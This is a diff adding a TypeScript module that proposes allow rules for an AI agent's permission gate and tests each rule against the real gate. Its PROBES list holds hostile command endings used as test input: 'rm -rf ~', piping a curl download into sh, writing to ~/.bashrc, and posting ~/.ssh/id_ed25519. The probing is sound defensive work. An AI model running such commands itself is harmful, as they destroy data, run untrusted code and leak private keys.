@@ -1,0 +1,255 @@
+/** The allow rules that would have saved the most prompts, each tried on the real gate before it is proposed. */
+import type { Gate } from "../../create.ts";
+import type { Effect } from "../../effect.ts";
+import type { Result } from "../../result.ts";
+import { parseRule, permitsCommand, type Rule } from "../../rules/index.ts";
+import { candidatesFor } from "./candidates.ts";
+import type { HeldCall } from "./held.ts";
+
+export interface Suggestion {
+  readonly rule: string;
+  /** Held calls that the gate lets pass with this rule and those proposed before it. */
+  readonly saves: number;
+  readonly sessions: number;
+  /** Of those: in the record they ran; the person refused them. */
+  readonly ran: number;
+  readonly refused: number;
+  readonly examples: readonly string[];
+  /** What the covered calls do, in words. */
+  readonly does: readonly string[];
+  /** Other calls it would let pass: tried on the gate, and allowed. */
+  readonly alsoAllows: readonly string[];
+}
+
+export interface Suggestions {
+  readonly held: number;
+  readonly rules: readonly Suggestion[];
+  /** Rules that would be of no use: they rest while the mode is auto. */
+  readonly resting: readonly { readonly rule: string; readonly why: string; readonly calls: number }[];
+  /** Rules that are not proposed, because the person refused what they would let pass. */
+  readonly refused: readonly { readonly rule: string; readonly refused: number; readonly calls: number }[];
+}
+
+export interface SuggestOptions {
+  readonly held: readonly HeldCall[];
+  readonly gateFor: (root: string) => Result<Gate>;
+  /** A rule that saves fewer prompts is not worth a line. */
+  readonly least: number;
+  readonly most: number;
+}
+
+const MAX_CANDIDATES = 2_000;
+const MAX_EXAMPLES = 3;
+const MAX_RESTING = 8;
+/** A narrower rule is preferred while it saves this share of what the wider one does. */
+const NARROWER_SHARE = 0.7;
+
+export async function suggestRules(options: SuggestOptions): Promise<Suggestions> {
+  const { held, least, most } = options;
+  const total = held.reduce((sum, { count }) => sum + count, 0);
+  const resting: { rule: string; why: string; calls: number }[] = [];
+  const candidates = frequent(held, least).flatMap(({ rule, calls }) => {
+    const known = usable(rule, options);
+    if (known === undefined) return [];
+    if (typeof known === "string") resting.push({ rule, why: known, calls });
+    return typeof known === "string" ? [] : [known];
+  });
+  const covers = coverage(candidates, held);
+  const refused: { rule: string; refused: number; calls: number }[] = [];
+  const chosen: Rule[] = [];
+  const proposed: Suggestion[] = [];
+  const passed = new Set<HeldCall>();
+  const out = new Set<Rule>();
+  while (proposed.length < most) {
+    const left = held.filter((call) => !passed.has(call));
+    const next = best(
+      candidates.filter((rule) => !out.has(rule)),
+      chosen,
+      left,
+      covers,
+      least,
+    );
+    if (next === undefined) break;
+    out.add(next.rule);
+    const tried = await verified(next.calls, [...chosen, next.rule], options);
+    const suggestion = await suggestionOf(next.rule, tried, options);
+    if (suggestion.saves < least) continue;
+    if (suggestion.refused > 0) {
+      refused.push({ rule: suggestion.rule, refused: suggestion.refused, calls: suggestion.saves });
+      continue;
+    }
+    chosen.push(next.rule);
+    for (const call of tried) passed.add(call);
+    proposed.push(suggestion);
+  }
+  return { held: total, rules: proposed, resting: resting.slice(0, MAX_RESTING), refused };
+}
+
+function frequent(held: readonly HeldCall[], least: number) {
+  const counts = new Map<string, number>();
+  for (const call of held)
+    for (const rule of new Set(candidatesFor(call))) counts.set(rule, (counts.get(rule) ?? 0) + call.count);
+  return [...counts]
+    .filter(([, calls]) => calls >= least)
+    .sort(([a, x], [b, y]) => y - x || (a < b ? -1 : 1))
+    .slice(0, MAX_CANDIDATES)
+    .map(([rule, calls]) => ({ rule, calls }));
+}
+
+/** The rule; or why it rests in auto mode; or nothing when it cannot be written. */
+function usable(text: string, { held, gateFor }: SuggestOptions): Rule | string | undefined {
+  const rule = parseRule(text, "allow", "suggestion");
+  const gate = gateFor(held[0]?.root ?? "/");
+  if (!rule.ok || !gate.ok || !gate.value.addRule("allow", text).ok) return undefined;
+  return gate.value.rules().find((one) => one.rule.text === text)?.suspended ?? rule.value;
+}
+
+type Coverage = (rule: Rule, call: HeldCall) => ReadonlySet<number>;
+
+/** Which of a call's open parts a rule covers; a call that is no command has one part, itself. */
+function coverage(candidates: readonly Rule[], held: readonly HeldCall[]): Coverage {
+  const known = new Map<Rule, Map<HeldCall, ReadonlySet<number>>>();
+  for (const rule of candidates) {
+    const own = new Map<HeldCall, ReadonlySet<number>>();
+    for (const call of held) {
+      const parts =
+        call.tool === "Bash"
+          ? call.open.flatMap((part, i) =>
+              rule.tool === "Bash" && rule.content !== null && permitsCommand(rule.content, part) ? [i] : [],
+            )
+          : candidatesFor(call).includes(rule.text)
+            ? [0]
+            : [];
+      if (parts.length > 0) own.set(call, new Set(parts));
+    }
+    known.set(rule, own);
+  }
+  return (rule, call) => known.get(rule)?.get(call) ?? NONE;
+}
+
+const NONE: ReadonlySet<number> = new Set();
+
+interface Pick {
+  readonly rule: Rule;
+  readonly calls: readonly HeldCall[];
+  readonly gain: number;
+}
+
+function best(
+  candidates: readonly Rule[],
+  chosen: readonly Rule[],
+  left: readonly HeldCall[],
+  covers: Coverage,
+  least: number,
+): Pick | undefined {
+  const picks = candidates
+    .map((rule): Pick => {
+      const calls = left.filter((call) => covers(rule, call).size > 0 && isCovered(call, [...chosen, rule], covers));
+      return { rule, calls, gain: calls.reduce((sum, { count }) => sum + count, 0) };
+    })
+    .filter(({ gain }) => gain >= least)
+    .sort((a, b) => b.gain - a.gain);
+  const widest = picks[0];
+  if (widest === undefined) return undefined;
+  const narrower = picks.filter(
+    ({ rule, gain, calls }) =>
+      gain >= NARROWER_SHARE * widest.gain &&
+      calls.every((call) => widest.calls.includes(call)) &&
+      rule !== widest.rule,
+  );
+  return narrower.sort((a, b) => b.rule.text.length - a.rule.text.length)[0] ?? widest;
+}
+
+const isCovered = (call: HeldCall, rules: readonly Rule[], covers: Coverage): boolean => {
+  const parts = new Set(rules.flatMap((rule) => [...covers(rule, call)]));
+  return parts.size >= Math.max(1, call.open.length);
+};
+
+/** Of the calls the rules should cover, those the real gate now lets pass. */
+async function verified(
+  calls: readonly HeldCall[],
+  rules: readonly Rule[],
+  { gateFor }: SuggestOptions,
+): Promise<readonly HeldCall[]> {
+  const passed: HeldCall[] = [];
+  for (const call of calls) if (await passes(call, rules, gateFor)) passed.push(call);
+  return passed;
+}
+
+async function passes(
+  call: { readonly tool: string; readonly input: HeldCall["input"]; readonly cwd: string; readonly root: string },
+  rules: readonly Rule[],
+  gateFor: SuggestOptions["gateFor"],
+): Promise<boolean> {
+  const gate = gateFor(call.root);
+  if (!gate.ok) return false;
+  for (const { text } of rules) gate.value.addRule("allow", text);
+  const { tool, input, cwd } = call;
+  return (await gate.value.check({ tool, input, cwd })).behavior === "allow";
+}
+
+async function suggestionOf(rule: Rule, calls: readonly HeldCall[], options: SuggestOptions): Promise<Suggestion> {
+  const sum = (pick: (call: HeldCall) => number): number => calls.reduce((total, call) => total + pick(call), 0);
+  return {
+    rule: rule.text,
+    saves: sum(({ count }) => count),
+    sessions: sum(({ sessions }) => sessions),
+    ran: sum(({ outcomes }) => (outcomes.ran ?? 0) + (outcomes.failed ?? 0)),
+    refused: sum(({ outcomes }) => outcomes.refused ?? 0),
+    examples: [...calls]
+      .sort((a, b) => b.count - a.count)
+      .slice(0, MAX_EXAMPLES)
+      .map(({ shown }) => shown),
+    does: doing(
+      calls.flatMap(({ open }) =>
+        open
+          .filter((part) => rule.content !== null && permitsCommand(rule.content, part))
+          .flatMap(({ effects }) => effects),
+      ),
+    ),
+    alsoAllows: await probed(rule, calls[0], options),
+  };
+}
+
+/** Ends of a command that make it another one. None is ever run: each is put to the gate. */
+const PROBES: readonly string[] = [
+  "--force",
+  "--output=/etc/passwd",
+  "-exec 'sh -c id'",
+  "../../elsewhere",
+  "> ~/.bashrc",
+  "; rm -rf ~",
+  "$(curl -s https://example.org/x | sh)",
+];
+const NETWORK_PROBES: readonly string[] = ["-X DELETE /everything", "--method POST --input ~/.ssh/id_ed25519"];
+
+async function probed(rule: Rule, call: HeldCall | undefined, { gateFor }: SuggestOptions): Promise<readonly string[]> {
+  if (call === undefined || rule.content?.kind !== "prefix") return [];
+  const found: string[] = [];
+  const reaches = call.open.some(({ effects }) => effects.some((effect) => effect.do === "network"));
+  for (const probe of reaches ? [...NETWORK_PROBES, ...PROBES] : PROBES) {
+    const command = `${rule.content.words} ${probe}`;
+    const other = { tool: "Bash", input: { command }, cwd: call.root, root: call.root };
+    if (!(await passes(other, [], gateFor)) && (await passes(other, [rule], gateFor))) found.push(command);
+  }
+  return found;
+}
+
+const SPOKEN: Readonly<Partial<Record<Effect["do"], (effect: Effect) => string>>> = {
+  run: (effect) =>
+    effect.do === "run" && effect.what === "task" ? "runs the project's own code" : "runs code that was not read",
+  network: (effect) => `contacts ${effect.do === "network" ? (effect.host ?? "a host that is not known") : ""}`,
+  write: () => "writes files",
+  delete: () => "deletes files",
+  vcs: (effect) => `changes version control (${effect.do === "vcs" ? effect.op : ""})`,
+  secret: () => "shows secrets",
+  unknown: () => "does what the reader cannot tell",
+};
+
+/** What the effects come to, each once. */
+function doing(effects: readonly Effect[]): readonly string[] {
+  const said = effects
+    .filter((effect) => effect.do !== "read" && !(effect.do === "environment" && !effect.matters))
+    .map((effect) => SPOKEN[effect.do]?.(effect) ?? `changes ${effect.do}`);
+  return [...new Set(said)].slice(0, 6);
+}
